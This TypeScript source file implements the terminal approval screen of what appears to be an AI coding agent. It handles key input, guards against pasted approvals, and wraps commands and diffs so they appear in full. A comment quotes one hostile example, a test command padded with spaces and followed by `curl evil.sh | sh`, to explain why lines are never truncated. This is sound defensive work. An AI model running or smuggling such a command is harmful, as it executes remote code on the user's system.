import type { PermissionChoice } from 'dsh-user-interaction/provider';
import type { TerminalStyle } from '../../text/terminal-style.js';
import { cutIntoRows, truncateText } from '../../text/text-width.js';
import { type StyledRun, wrapStyledLine } from '../../text/wrap-styled-line.js';
import type { ScreenSize } from '../menu/render-menu.js';
import { isKey, type KeyPress, typedText } from '../terminal/key.js';
import { isBurst, isPastedKey, pasteBound, pastingAfter } from '../terminal/paste-keys.js';
import {
  type ApprovalView,
  type BodyLine,
  offeredNumbers,
  styledBodyLine,
} from './approval-view.js';

/** Where the person is on the approval screen. */
export interface ApprovalState {
  /** The focused choice. */
  readonly focus: number;
  /** The first row of the body on screen. */
  readonly scroll: number;
  /** Rows of the body the last frame showed: what a page is. */
  readonly page: number;
  /** The last row the body can scroll to, in the last frame. */
  readonly bottom: number;
  /** Inside a bracketed paste: its keys are text, and text answers nothing here. */
  readonly pasting: boolean;
  /** Set when pasted keys were ignored, until the next key pressed alone. */
  readonly pasteIgnored: boolean;
}

/** How the screen ends: a choice, or the person dismissing it (Ctrl+C cancels the turn). */
export type ApprovalOutcome =
  | { readonly kind: 'choice'; readonly choice: PermissionChoice }
  | { readonly kind: 'cancel' };

export const INITIAL_APPROVAL_STATE: ApprovalState = {
  focus: 0,
  scroll: 0,
  page: 1,
  bottom: 0,
  pasting: false,
  pasteIgnored: false,
};

function chosen(view: ApprovalView, index: number): ApprovalOutcome | undefined {
  const choice = view.choices[index];
  return choice === undefined ? undefined : { kind: 'choice', choice: choice.choice };
}

/** One key applied to the state (pure): an outcome ends the screen. */
function approvalKey(
  view: ApprovalView,
  state: ApprovalState,
  press: KeyPress,
): { state: ApprovalState; outcome?: ApprovalOutcome } {
  const { key } = press;
  const last = view.choices.length - 1;
  const move = (focus: number) => ({
    state: { ...state, focus: Math.min(Math.max(focus, 0), last) },
  });
  const scroll = (by: number) => ({
    state: { ...state, scroll: Math.max(0, Math.min(state.scroll + by, state.bottom)) },
  });
  if (isKey(key, 'c', { ctrl: true })) return { state, outcome: { kind: 'cancel' } };
  // A lone Esc may come decoded with `meta` set.
  if (key.name === 'escape') {
    const reject = view.choices.findIndex((item) => item.choice === 'reject_once');
    return { state, ...(reject >= 0 && { outcome: chosen(view, reject) as ApprovalOutcome }) };
  }
  if (isKey(key, 'return') || isKey(key, 'enter')) {
    return { state, outcome: chosen(view, state.focus) as ApprovalOutcome };
  }
  if (isKey(key, 'up') || isKey(key, 'p', { ctrl: true }) || isKey(key, 'k'))
    return move(state.focus - 1);
  if (isKey(key, 'down') || isKey(key, 'n', { ctrl: true }) || isKey(key, 'j'))
    return move(state.focus + 1);
  if (isKey(key, 'tab')) return move(state.focus === last ? 0 : state.focus + 1);
  if (isKey(key, 'home')) return move(0);
  if (isKey(key, 'end')) return move(last);
  if (isKey(key, 'pagedown') || isKey(key, 'space') || isKey(key, 'd', { ctrl: true })) {
    return scroll(Math.max(1, state.page - 1));
  }
  if (isKey(key, 'pageup') || isKey(key, 'u', { ctrl: true }))
    return scroll(-Math.max(1, state.page - 1));
  const text = typedText(press)?.toLowerCase();
  if (text === undefined) return { state };
  if (/^[1-9]$/.test(text)) {
    const index = view.choices.findIndex((item) => item.number === Number(text));
    const outcome = chosen(view, index);
    return outcome === undefined ? { state } : { state, outcome };
  }
  const lettered = view.choices.findIndex((item) => item.letter === text);
  return lettered >= 0 ? { state, outcome: chosen(view, lettered) as ApprovalOutcome } : { state };
}

/**
 * The keys of one input chunk, in order, until one ends the screen. Only a key pressed alone
 * answers: the keys of a paste (bracketed, or a burst of keys in one chunk, as a terminal
 * without bracketed paste sends it) only move and scroll, so pasted text holding `y`, `2` or
 * a line break never allows a call nor writes a rule. Ctrl+C still dismisses.
 */
export function approvalKeys(
  view: ApprovalView,
  state: ApprovalState,
  presses: readonly KeyPress[],
): { state: ApprovalState; outcome?: ApprovalOutcome } {
  const burst = isBurst(presses);
  let current = burst || state.pasting ? state : { ...state, pasteIgnored: false };
  for (const press of presses) {
    if (pasteBound(press) !== undefined) {
      current = { ...current, pasting: pastingAfter(current.pasting, press) };
      continue;
    }
    if (isPastedKey(current.pasting, press)) {
      current = { ...current, pasteIgnored: true };
      continue;
    }
    const next = approvalKey(view, current, press);
    if (next.outcome === undefined) {
      current = next.state;
      continue;
    }
    if (!burst || next.outcome.kind === 'cancel') return next;
    current = { ...next.state, pasteIgnored: true };
  }
  return { state: current };
}

/** A row of the body on screen: a line of the body, or the part of it that did not fit above. */
type BodyRow = BodyLine & { readonly continued: boolean };

/** Each view's body rows for the last width drawn: a keypress does not cut the body again. */
const rowsOfViews = new WeakMap<ApprovalView, { width: number; rows: readonly BodyRow[] }>();

/** Whether a body line starts with a diff mark (`+`, `-`, a space), kept in its first column. */
function marked(line: BodyLine): boolean {
  return line.kind === 'added' || line.kind === 'removed' || line.kind === 'context';
}

/**
 * The body in rows of `width` columns. Each line is cut into as many rows as it needs, never
 * shortened: what runs or is written, and where, must reach the screen whole, where a line cut
 * with `…` hid the end of `npm test<200 spaces>; curl evil.sh | sh`. A command's rows start
 * after its `$ `, a diff line's after its mark, the others' after one space.
 */
function bodyRows(view: ApprovalView, width: number): readonly BodyRow[] {
  const cached = rowsOfViews.get(view);
  if (cached !== undefined && cached.width === width) return cached.rows;
  const rows: BodyRow[] = [];
  for (const line of view.body) {
    const mark = marked(line) ? line.text.slice(0, 1) : '';
    const text = line.text.slice(mark.length);
    const pieces = cutIntoRows(text, width - (line.kind === 'command' ? 2 : 1));
    pieces.forEach((piece, index) => {
      rows.push({
        kind: line.kind,
        text: index === 0 ? mark + piece : piece,
        continued: index > 0,
      });
    });
  }
  rowsOfViews.set(view, { width, rows });
  return rows;
}

/** A body row, styled; a continued row is indented under the text of its line. */
function styledBodyRow(row: BodyRow, style: TerminalStyle): string {
  if (!row.continued) return styledBodyLine(row, style);
  if (row.kind === 'command') return `  ${style.bold(row.text)}`;
  // Styled as its line, without the `$ ` a command's first row has.
  return ` ${styledBodyLine(row, style)}`;
}

/**
 * A choice in rows of `width` columns: its number, label and letter wrap at words, the rows
 * after the first under its label, so that the rule an "always" choice writes is read whole.
 */
function choiceRows(
  item: ApprovalView['choices'][number],
  focused: boolean,
  width: number,
  style: TerminalStyle,
): string[] {
  const pointer = focused ? style.accent(style.symbols.pointer) : ' ';
  const number = `${item.number}. `;
  const runs: StyledRun[] = [
    { text: `${number}${item.label}`, ...(focused && { style: style.accent }) },
    ...(item.letter === undefined ? [] : [{ text: ` (${item.letter})`, style: style.dim }]),
  ];
  const rows = wrapStyledLine(runs, width - 2, ' '.repeat(number.length));
  return rows.map((row, index) => `${index === 0 ? pointer : ' '} ${row}`);
}

/** What a paste on this screen is told: it answers nothing. */
export const PASTE_IGNORED = 'Pasted text answers nothing here: press a key to choose.';

/**
 * The frame: the title, the kind and paths, the body (the command or the diff) in a window
 * that scrolls, the choices with their keys, and the hints. The title and the detail are cut
 * to one line each; the choices and the hints wrap, and the body's lines are cut into rows, so
 * a long line is seen whole and the choices stay on the screen.
 */
export function renderApproval(
  view: ApprovalView,
  state: ApprovalState,
  size: ScreenSize,
  style: TerminalStyle,
): { lines: string[]; state: ApprovalState } {
  const width = Math.max(10, size.columns - 1);
  const cut = (line: string, room = width) => truncateText(line, Math.max(1, room));
  const head = [
    `${style.warning('?')} ${style.bold(cut(`Allow this? ${view.title}`, width - 2))}`,
    `  ${style.dim(cut(view.detail, width - 2))}`,
  ];
  const choices = view.choices.flatMap((item, index) =>
    choiceRows(item, index === state.focus, width, style),
  );
  const keys = offeredNumbers(view, ['↑↓ Enter']);
  const hint = state.pasteIgnored
    ? wrapStyledLine([{ text: PASTE_IGNORED, style: style.warning }], width)
    : wrapStyledLine(
        [
          {
            text: `${keys} · y allow once · n or Esc reject · Ctrl+C cancels the turn`,
            style: style.dim,
          },
        ],
        width,
      );
  const fixed = head.length + 1 + choices.length + hint.length + 1;
  const room = Math.max(1, size.rows - 1 - fixed);
  const body = bodyRows(view, width - 2);
  let lines: string[] = [];
  let page = room;
  let scroll = 0;
  let bottom = 0;
  if (body.length > 0) {
    const scrolls = body.length > room;
    page = scrolls ? Math.max(1, room - 1) : room;
    bottom = Math.max(0, body.length - page);
    scroll = Math.min(state.scroll, bottom);
    lines = body.slice(scroll, scroll + page).map((row) => `  ${styledBodyRow(row, style)}`);
    if (scrolls) {
      const end = Math.min(body.length, scroll + page);
      lines.push(
        style.dim(
          cut(`  lines ${scroll + 1}–${end} of ${body.length} · PgUp/PgDn or Space scroll`),
        ),
      );
    }
  }
  return {
    lines: [...head, ...(lines.length > 0 ? ['', ...lines] : []), '', ...choices, ...hint],
    state: { ...state, scroll, page, bottom },
  };
}
